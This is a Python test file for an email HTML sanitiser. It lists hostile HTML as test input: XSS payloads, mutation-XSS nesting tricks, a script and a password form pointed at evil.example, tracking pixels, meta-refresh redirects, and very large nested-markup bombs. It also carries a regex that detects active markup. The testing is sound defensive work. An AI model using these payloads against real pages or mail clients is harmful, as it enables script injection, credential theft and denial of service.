"""What is left of a mail's HTML: words and layout, nothing that acts or fetches."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.console.safe_html import safe_html

HOSTILE = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2 2x'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>a</p>",
    "<a href='javascript:steal()'>a</a>",
    "<a href=' java\nscript:steal()'>a</a>",
    "<a href='data:text/html,<script>steal()</script>'>a</a>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<svg onload=steal()><a xlink:href='javascript:steal()'><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example'>",
    "<video src='https://evil.example' autoplay></video>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<body background='https://evil.example' onload=steal()>",
    "<div id=main class=top hx-get='/console' data-act=complete>a</div>",
    "<!--[if mso]><script>steal()</script><![endif]-->",
]
ACTS = re.compile(
    r"<(script|style|form|input|button|iframe|object|embed|svg|math|meta|base|link|video|body)\b"
    r"|<[^>]*\s(on\w+|src|srcset|style|action|background|id|class|hx-\w+|data-\w+)\s*="
    r"|href=[\"']\s*(javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_does_nothing(html: str) -> None:
    """No script, style, form, frame, image, nor anything that the console's own script reads."""
    assert ACTS.search(safe_html(html)) is None


def test_the_checks_see_what_they_look_for() -> None:
    """Else the tests beside this one could not fail."""
    assert [html for html in HOSTILE if not ACTS.search(html) and "java\n" not in html] == []


def test_words_and_layout_stay() -> None:
    """Tables, lists, links that open elsewhere and tell nobody where from."""
    html = "<table><tr><td>a</td></tr></table><p>b <b>c</b></p><a href='https://x.example'>d</a>"
    shown = safe_html(html)
    assert shown is not None
    assert "<td>a</td>" in shown
    assert "<b>c</b>" in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_an_image_becomes_its_description() -> None:
    """Which a reader can still see."""
    assert safe_html("<img src='cid:1' alt='Logo'>") == '<img alt="Logo">'


REOPENED = "<p>" + "".join(f"<b lang=x{n}>" for n in range(500)) + "</p><p>x" * 100_000
BOMBS = {
    "depth": "<div>" * 150_000 + "x",
    "formatting opened again in every paragraph": REOPENED,
    "formatting opened again in every row": REOPENED.replace("<p>", "<table>", 1).replace(
        "</p><p>", "<tr>"
    ),
    "end tags of a deep page": "<div></z>" * 60_000 + "</p>" * 100_000 + "x",
    "attributes": "<p " + " ".join(f"a{n}" for n in range(120_000)) + ">x",
}


@pytest.mark.parametrize("html", BOMBS.values(), ids=BOMBS.keys())
def test_a_bomb_costs_what_it_weighs(html: str) -> None:
    """In time, and in what comes out; its words are shown."""
    started = time.process_time()
    shown = safe_html(html)
    assert time.process_time() - started < 10
    assert "x" in shown
    assert len(shown) <= 4 * len(html)


def test_what_is_not_closed_in_order_reads_the_same() -> None:
    """Cells, items and formatting that mail programs leave open."""
    html = "<ul><li>a<li>b</ul><table><tr><td>c<td>d<tr><td>e</table><b>f<p>g</b>h</p>i &lt; j < k"
    shown = safe_html(html)
    assert re.sub(r"<[^>]*>", "", shown) == "abcdefghi &lt; j &lt; k"
    assert shown.count("<li>") == 2
    assert shown.count("<td>") == 3


@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<!--", "-->", "'", '"', "x"]))
)
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    """Whatever pieces come together."""
    assert ACTS.search(safe_html("".join(pieces))) is None
